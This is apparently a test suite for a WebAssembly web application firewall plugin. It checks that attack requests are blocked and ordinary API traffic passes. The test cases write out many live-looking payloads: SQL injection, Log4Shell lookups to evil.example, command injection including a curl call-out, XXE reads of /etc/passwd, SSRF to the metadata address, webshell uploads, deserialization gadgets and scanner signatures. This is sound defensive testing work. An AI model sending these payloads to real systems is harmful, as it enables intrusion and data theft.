// Attack detection in the filter, through the host, with the shipped strict policy: blocked in the path,
// query, headers and bodies before the upstream sees them; prose and normal API traffic pass.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { PluginHost, SharedState } from "../../host/index.ts";
import { exchange, okResponse, request } from "./exchange.ts";

const root = new URL("../../", import.meta.url).pathname;
let h: PluginHost;
const logs: string[] = [];
before(async () => {
  h = await PluginHost.create({
    module: readFileSync(`${root}build/l7guard.wasm`), configuration: readFileSync(`${root}examples/policies/strict.json`, "utf8"),
    shared: new SharedState(), allowOnHeadersStopIteration: true, logger: (l) => logs.push(l.message), logLevel: "warn",
  });
});
after(() => h.close());

const json = [["content-type", "application/json"]] as Array<[string, string]>;
const send = (method: string, path: string, extra: Array<[string, string]> = [], body?: string[]) =>
  exchange(h, { requestHeaders: request(method, path, extra), requestBody: body, responseHeaders: okResponse() });

test("attacks are blocked wherever they are, with the class in the reply and nothing sent upstream", async () => {
  const cases: Array<[string, Promise<Awaited<ReturnType<typeof send>>>]> = [
    ["sqli", send("GET", "/items?id=1%27%20OR%20%271%27%3D%271")],
    ["traversal", send("GET", "/static/..%2f..%2f..%2fetc%2fpasswd")],
    ["traversal", send("GET", "/app/%2Egit/config")],
    ["traversal", send("GET", "/.claude/settings.json")],
    ["jndi", send("GET", "/", [["user-agent", "${${lower:j}ndi:ldap://evil.example/a}"]])],
    ["xss", send("GET", "/", [["referer", "https://shop.example.com/?q=<script>alert(1)</script>"]])],
    ["xss", send("POST", "/comments", json, ['{"text":"<img src=x onerror=alert(1)>"}'])],
    ["ssrf", send("POST", "/webhooks", json, ['{"url":"http://169.254.169.254/latest/meta-data/"}'])],
    ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
    ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'])],
    ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://x7f.attacker.example/"/></xs:schema>'])],
    // A CR hidden in a character's low byte (U+560D), then a header line.
    ["protocol", send("GET", "/%e5%98%8dSet-cookie%3acrlf%3dinjection")],
    // A payload whose '&' the URL left raw: cut into parameters, read whole too.
    ["xss", send("GET", "/search?q=&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B")],
    ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
    // The login bypass in the password field (a password is also PII: it is read for the attacks it is sent).
    ["sqli", send("POST", "/login", json, ['{"username":"admin","password":"\' or \'1\'=\'1"}'])],
    ["sqli", send("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=%27+or+%271%27%3D%271"])],
    ["sqli", send("POST", "/login", json, ['{"email":"admin\'--@example.com","password":"x"}'])],
    // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
    ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
    ["sqli", send("POST", "/profile", json, ['{"id\' OR 1=1--":1}'])],
    ["xss", send("GET", "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1")],
    ["jndi", send("GET", "/search?${jndi:ldap://evil.example/a}")],
    ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["a%3Bcat%20%2Fetc%2Fhosts=1"])],
    // Prototype pollution: JSON keys, query names, a path in a value, a cookie.
    ["prototype_pollution", send("PATCH", "/settings", json, ['{"theme":"dark","__proto__":{"isAdmin":true}}'])],
    ["prototype_pollution", send("PATCH", "/settings", json, ['{"constructor":{"prototype":{"isAdmin":true}}}'])],
    ["prototype_pollution", send("GET", "/items?__proto__[isAdmin]=1")],
    ["prototype_pollution", send("GET", "/items?constructor%5Bprototype%5D%5BisAdmin%5D=1")],
    ["prototype_pollution", send("POST", "/settings", json, ['{"path":"__proto__.isAdmin","value":true}'])],
    ["prototype_pollution", send("GET", "/", [["cookie", "prefs=__proto__.foo=bar"]])],
    // XML values one by one (SOAP): SQL in an element or attribute, script in CDATA.
    ["sqli", send("POST", "/soap", [["content-type", "text/xml"]], ['<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>1234 OR 1=1</id></GetUser></soap:Body></soap:Envelope>'])],
    ["sqli", send("POST", "/soap", [["content-type", "application/xml"]], ['<query filter="x\' UNION SELECT password FROM users--"/>'])],
    ["xss", send("POST", "/feed", [["content-type", "application/xml"]], ['<item><title><![CDATA[<svg onload=alert(1)>]]></title></item>'])],
    // Log4Shell and template expressions in any header a service may log or render.
    ["jndi", send("GET", "/api/items", [["x-api-version", "${jndi:ldap://evil.example/a}"]])],
    ["jndi", send("GET", "/api/items", [["x-forwarded-host", "${${::-j}${::-n}di:rmi://evil.example/x}"]])],
    ["ssti", send("GET", "/api/items", [["x-tenant", "${T(java.lang.Runtime).getRuntime().exec('id')}"]])],
    // Protocol headers whose grammar never holds markup or a parent directory (nuclei: CVE-2022-24181, CVE-2019-5418).
    ["xss", send("GET", "/", [["x-forwarded-host", "foo\"><script>alert(document.domain)</script>"]])],
    ["traversal", send("GET", "/", [["accept", "../../../../../../../../etc/passwd{{"]])],
    ["ssti", send("GET", "/", [["x-forwarded-host", "xxx{{['cat /etc/passwd']|filter('system')}}bbb"]])],
    // Shapes of nuclei's CVE templates: command substitution in a password field (CVE-2023-25717), a backquoted
    // column closed in ORDER BY (CVE-2022-24266), OGNL evaluation (CVE-2019-0230), PHP's concatenation (CVE-2021-30461).
    ["cmdi", send("POST", "/admin/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=password%24(curl%20c0ffee.example.net)"])],
    ["sqli", send("GET", "/list?order_by=id%60%2Cif(SUBSTRING(%27test%27%2C1%2C1)%3D%27t%27%2Csleep(6)%2Csleep(0))--%20-")],
    ["ssti", send("GET", "/index.action?id=%25%7B128*128%7D")],
    ["cmdi", send("POST", "/spool", [["content-type", "application/x-www-form-urlencoded"]], ["SPOOLDIR=test%22.system(id).%22"])],
    // JSON sent as a form (the back end decodes the raw body; CVE-2024-0305): read as JSON.
    ["cmdi", send("POST", "/classes/common/busiFacade.php", [["content-type", "application/x-www-form-urlencoded"]], ['{"name":"ping","param":["ping 127.0.0.1 | id"]}'])],
    ["jndi", send("POST", "/api/items", [["content-type", "application/json"]], ['{"foo": "$&lbrace;jndi:ldap://evil.example/webshell&rbrace;"}'])],
    // A raw-body upload named by X-Filename (and its spellings): a name the web server runs, traversal.
    ["malware", send("PUT", "/upload", [["x-filename", "shell.php"], ["content-type", "application/octet-stream"]], ["<?php echo 1; ?>"])],
    ["malware", send("PUT", "/upload", [["x-file-name", "fda.php5..."], ["content-type", "application/octet-stream"]], ["x"])],
    ["traversal", send("PUT", "/upload", [["x-filename", "../../etc/cron.d/x"], ["content-type", "application/octet-stream"]], ["x"])],
    // Request-Range (a draft of Range no client has sent since 1997), and a body charset a back end may decode
    // differently from the inspection (EBCDIC, UTF-7, two charset parameters, an unknown name).
    ["protocol", send("GET", "/document.pdf", [["request-range", "bytes=0-1023"]])],
    ["protocol", send("GET", "/files?name=report.pdf%00.txt")],
    ["protocol", send("GET", "/cgi-bin/status", [["proxy", "http://attacker.example:8080"]])],
    ["protocol", send("POST", "/api/items", [["content-type", "my-new-content-type"]], ["test"])],
    // A schema location of one URL alone (pairs are what documents carry): a probe for a fetching parser.
    ["xxe", send("POST", "/soap", [["content-type", "text/xml"]], ['<?xml version="1.0"?><x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://oob.example.net/"/>'])],
    // JSON relabelled application/octet-stream (a lenient back end parses it anyway).
    ["cmdi", send("POST", "/api/run", [["content-type", "application/octet-stream"]], ['{"foo" : ";+cat+/e\\\\t\\\\*/pa\\\\?s\\\\wd"}'])],
    ["protocol", send("POST", "/login", [["content-type", "application/x-www-form-urlencoded; charset=ibm037"]], ["user=%96%40%7e"])],
    ["protocol", send("POST", "/login", [["content-type", "application/x-www-form-urlencoded;charset=ibm037;charset=UTF-8"]], ["user=ann"])],
    ["protocol", send("POST", "/comments", [["content-type", "text/plain; charset=utf-7"]], ["+ADw-script+AD4-"])],
    ["protocol", send("POST", "/login", [["content-type", 'application/x-www-form-urlencoded; charset="utf-88"']], ["user=ann"])],
    // A PHP session file's name: written to the session directory, it is unserialized on the next request.
    ["malware", send("PUT", "/upload", [["x-filename", "sess_d8ew88tqmabdcokhumchy8htqm"], ["content-type", "application/octet-stream"]], ['_|O:32:"Monolog\\Handler\\SyslogUdpHandler":0:{}'])],
    ["malware", send("PUT", "/upload", [["x-file-name", "/var/lib/php/sessions/sess_attackervector1234567890"], ["content-type", "application/octet-stream"]], ["x"])],
    // MongoDB operators where a value belongs, script calls, CSS hiding a vector.
    ["sqli", send("POST", "/login", json, ['{"user":"admin","password":{"$ne":null}}'])],
    ["sqli", send("GET", "/login?user=admin&password[$ne]=x")],
    ["xss", send("GET", "/search?q=alert(document.cookie)")],
    ["xss", send("POST", "/comments", json, ['{"text":"<div style=\\"x:expr/**/ession(write(1))\\">"}'])],
    // A REST path's segment is a value: SQL in an id (the whole path reads "/users/1 OR 1=1/orders" as slashes
    // between words), JSON operators of PostgreSQL in a path parameter.
    ["sqli", send("GET", "/api/users/1%20OR%201=1/orders")],
    ["sqli", send("GET", "/get/OR%20%27%7B%22b%22%3A2%7D%27%3A%3Ajsonb%20%3C%40%20%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb")],
    // An address after a label is PII and may be a URL without slashes too: both are read.
    ["ssrf", send("GET", "/fetch?url=http:127.0.0.1")],
    ["ssrf", send("POST", "/fetch", json, ['{"url":"http:169.254.169.254"}'])],
    // A bare reference to a class deserialization gadgets reach for, wherever it is sent.
    ["cmdi", send("POST", "/items", json, ['{"type":"java.lang.Runtime"}'])],
    ["cmdi", send("POST", "/items", json, ['{"org.apache.commons.collections.Transformer":1}'])],
    ["cmdi", send("GET", "/items", [["cookie", "theme=dark; cls=java.io.ObjectInputStream"]])],
    ["cmdi", send("GET", "/items", [["x-type", "java.lang.ProcessBuilder"]])],
    ["cmdi", send("GET", "/items", [["x-chain", "ProcessBuilder.evil.InvokerTransformer"]])],
    ["cmdi", send("GET", "/profile", [["cookie", "profile=XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpfSgpCg=="]])],
    // The application's own headers are read like query values (a service that logs, queries or renders them).
    ["sqli", send("GET", "/api/items", [["x-sort", "123) AND 12=12 AND JSON_DEPTH('{}') != 2521"]])],
    ["cmdi", send("GET", "/api/items", [["x-job", "; cat /et'c/pa'ss'wd"]])],
    // Base64-encoded text is read decoded: in a query, a JSON value, a path, a header.
    ["xss", send("GET", "/search?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")],
    ["sqli", send("POST", "/api", json, ['{"filter":"JyBvciAxPTEtLQ=="}'])],
    ["xss", send("GET", "/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")],
    ["cmdi", send("GET", "/api/items", [["x-payload", "OyBjYXQgL2V0Yy9wYXNzd2Q"]])],
    // React2Shell (CVE-2025-55182): a Flight reference to the Function constructor.
    ["cmdi", send("POST", "/", [["content-type", "text/plain;charset=UTF-8"], ["next-action", "x"]], ['{"then":"$1:__proto__:then","_response":{"_formData":{"get":"$3:constructor:constructor"}}}'])],
  ];
  for (const [cls, pending] of cases) {
    const r = await pending;
    assert.equal(r.status(), 403, cls);
    assert.equal(r.json().class, cls);
    assert.equal(r.upstreamHeaders, undefined, `${cls}: the upstream saw nothing`);
  }
});

test("headers read for lookups and Java names: padding many of them in front of a payload is a limits finding, never a pass", async () => {
  const padding = Array.from({ length: 40 }, (_, i) => [`x-pad-${i}`, "${user}"] as [string, string]);
  const r = await send("GET", "/items", [...padding, ["x-api-version", "${jndi:ldap://evil.example/a}"]]);
  assert.equal(r.status(), 403);
  assert.ok(["limits", "jndi"].includes(r.json().class), r.downstreamBody.toString());
  assert.equal(r.upstreamHeaders, undefined);
  const few = await send("GET", "/items", Array.from({ length: 10 }, (_, i) => [`x-pad-${i}`, "${user}"] as [string, string]));
  assert.equal(few.status(), 200);
});

test("session fixation: a framework's session id as a query or form parameter or JSON key is blocked unless a same-site page sent it", async () => {
  const form = [["content-type", "application/x-www-form-urlencoded"]] as Array<[string, string]>;
  const blocked = [
    send("GET", "/login?PHPSESSID=abc123"),
    send("GET", "/login.asp?ASPSESSIONIDQSDTRBSB=GKFPMNABCDLMNOP"),
    send("GET", "/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666", [["referer", "http://attacker.example/"]]),
    send("GET", "/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666", [["referer", "http://notorders.shop/"]]),
    send("POST", "/login", form, ["sessionid=abc123&username=test"]),
    send("POST", "/api", json, ['{"connect.sid":"s%3Aabc"}']),
    send("POST", "/api", json, ['{"user":{"JSESSIONID":"abc"}}']),
  ];
  for (const pending of blocked) {
    const r = await pending;
    assert.equal(r.status(), 403, r.downstreamBody.toString());
    assert.equal(r.json().class, "session_fixation");
    assert.equal(r.upstreamHeaders, undefined);
  }
  // The application's own page (URL rewriting), analytics events with a session_id field, look-alike names.
  const passed = [
    send("GET", "/login?jsessionid=abc", [["referer", "http://orders.shop:8080/page?x=1"]]),
    send("GET", "/login?jsessionid=abc", [["referer", "https://www.orders.shop/page"]]),
    send("POST", "/events", json, ['{"event":"page_view","session_id":"abc123","sessionId":"x"}']),
    send("GET", "/chat?sessions=3&session=abc&sid=1"),
  ];
  for (const pending of passed) assert.equal((await pending).status(), 200);
});

test("attack tools: a scanner's User-Agent, an out-of-band testing domain in a header, the query or the body", async () => {
  const blocked = [
    send("GET", "/", [["user-agent", "sqlmap/1.7.4#stable (https://sqlmap.org)"]]),
    send("GET", "/api/items", [["user-agent", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"]]),
    send("GET", "/api/items", [["user-agent", "Mozilla/5.0 (Windows NT 6.1) Chrome/55.0 root@w63gecoroprj5um8ypnd7r6.interact.sh"]]),
    send("GET", "/api/items", [["x-forwarded-host", "c0ffee42.oast.pro"]]),
    send("GET", "/api/items", [["referer", "http://lmb1ikpej3yys0gq.burpcollaborator.net/ref"]]),
    send("GET", "/api/fetch?url=https%3A%2F%2Fq9x2.oastify.com%2F"),
    send("POST", "/api/webhooks", json, ['{"callback":"http://a1b2c3.oast.fun/hook"}']),
  ];
  for (const [i, pending] of blocked.entries()) {
    const r = await pending;
    assert.equal(r.status(), 403, `case ${i}: ${r.downstreamBody.toString()}`);
    assert.equal(r.json().class, "scanner", `case ${i}`);
    assert.equal(r.upstreamHeaders, undefined);
  }
  const passed = [
    send("GET", "/api/items", [["user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"]]),
    send("GET", "/api/items", [["user-agent", "kube-probe/1.28"], ["x-forwarded-host", "api.example.com"]]),
    send("GET", "/api/items", [["accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"], ["x-forwarded-host", "shop.internal:8443"], ["if-none-match", "\"abc\""]]),
    send("GET", "/api/docs?link=https%3A%2F%2Finteract.sh%2F"),
    send("POST", "/api/notes", json, ['{"text":"Nuclei and sqlmap are scanners we run in CI"}']),
  ];
  for (const pending of passed) assert.equal((await pending).status(), 200);
});

test("prose and normal API calls pass", async () => {
  const ok = [
    await send("GET", "/search?q=select+a+drop-off+point"),
    await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
    await send("GET", "/products/42?sort=price&order=asc"),
    // Strong passwords: quotes, semicolons, '&', '$(' and '|' by chance.
    await send("POST", "/login", json, ['{"username":"ann","password":"a\'b;c\\"d|e&f$(g)"}']),
    await send("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=ann&password=P%40ss%27w0rd--x%3B(1)"]),
    await send("GET", "/products?page=2&amp;sort=price&title=Tom+&+Jerry"), // a link copied from HTML
    await send("GET", "/wiki/%C4%8Das:Foo/ma%C4%8Dka"), // "čas:", "mačka": U+010D in words
    // Slugs and names in REST paths, each segment read as a value.
    await send("GET", "/api/v1/plans/select-a-plan"),
    await send("GET", "/shop/Levi's%20501%20(original)/reviews"),
    await send("GET", "/odata/Customers('ALFKI')/Orders"),
    await send("GET", "/guide/environments.html"),
    await send("GET", "/.well-known/openid-configuration"),
    await send("POST", "/links", json, ['{"url":"https://www.example.com/docs/page?id=7"}']),
    // Objects that describe constructors and prototypes, words about them.
    await send("POST", "/docs", json, ['{"constructor":{"name":"Point","params":["x","y"]},"prototype":{"methods":["norm"]},"text":"A constructor sets up the prototype chain."}']),
    // A Referer is the page the client came from: a developer's localhost, a PHP shop page.
    await send("GET", "/api/cart", [["referer", "http://localhost:3000/checkout"]]),
    await send("GET", "/api/cart", [["referer", "https://shop.example.com/cart.php?id=3"]]),
    // An XML order: names, an address, a note with words SQL also uses.
    await send("POST", "/orders", [["content-type", "application/xml"]], ['<?xml version="1.0"?><order id="A-1001" xmlns="urn:shop"><customer>Ann Lee</customer><street>1 Main Street</street><note>Leave it at the back door or with the neighbour, select the blue box</note></order>']),
    await send("POST", "/settings", json, ['{"$schema":"https://json-schema.org/draft/2020-12/schema","title":"Set an alert (daily)"}']),
    await send("PUT", "/upload", [["x-filename", "holiday photo.jpg"], ["content-type", "application/octet-stream"]], ["x"]),
    await send("PUT", "/upload", [["x-filename", "session_report.txt"], ["content-type", "application/octet-stream"]], ["x"]),
    await send("GET", "/video.mp4", [["range", "bytes=0-1023"], ["if-range", "Wed, 21 Oct 2015 07:28:00 GMT"]]),
    await send("GET", "/theme?color=%2300ff00&bg=%23000"),
    await send("PUT", "/files/settings.json", [["content-type", "application/octet-stream"]], ['{"theme":"dark","fontSize":14,"recent":["/home/ann/notes.txt"]}']),
    await send("POST", "/form", [["content-type", "application/x-www-form-urlencoded; charset=UTF-8"]], ["a=b"]),
    await send("POST", "/form", [["content-type", "application/x-www-form-urlencoded;charset='utf-8'"]], ["a=b"]),
    await send("POST", "/form", [["content-type", "application/x-www-form-urlencoded; charset=ISO-8859-15"]], ["a=b"]),
    await send("POST", "/form", [["content-type", "application/x-www-form-urlencoded; charset=windows-1252"]], ["a=b"]),
    await send("POST", "/api/items", [["content-type", "application/json; charset=Shift_JIS"]], ['{"a":"b"}']),
    await send("POST", "/soap", [["content-type", 'application/soap+xml; action="urn:x#getQuestions"; charset=utf-8']], ["<a>b</a>"]),
    await send("POST", "/config", [["content-type", "application/xml"]], ['<beans xmlns="http://www.springframework.org/schema/beans" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.springframework.org/schema/beans http://www.springframework.org/schema/beans/spring-beans.xsd"><bean id="a"/></beans>']),
    await send("PUT", "/upload", [["x-filename", "sess_short"], ["content-type", "application/octet-stream"]], ["x"]),
    // Header syntax and ordinary "${...}" look-alikes are not read by the SQL/markup rules there.
    await send("GET", "/api/items", [["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"], ["x-note", "price ${price} applies"], ["if-none-match", "\"abc\""]]),
    // What a mesh adds and what clients send as their own headers: trace contexts, a client certificate's
    // details, ids, keys, base64 of a JSON document.
    await send("GET", "/api/items", [["x-forwarded-client-cert", 'By=spiffe://cluster.local/ns/shop/sa/api;Hash=4f2a;Subject="";URI=spiffe://cluster.local/ns/web/sa/frontend'],
      ["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"], ["baggage", "userId=alice,serverNode=DF%2028,isProduction=false"],
      ["x-user-id", "42"], ["x-api-key", "sk_test_4eC39HqLyjWDarjtT1zdp7dc"], ["x-client-version", "ios/14.5.1 (iPhone12,8)"],
      ["x-session-context", "eyJ1c2VyIjoiYm9iIiwicm9sZSI6InJlYWRlciJ9"], ["x-search", "select a drop-off point"]]),
  ];
  for (const r of ok) assert.equal(r.status(), 200, r.downstreamBody.toString());
  assert.ok(!logs.some((l) => l.includes("attack") && l.includes("/search")), logs.join("\n"));
});
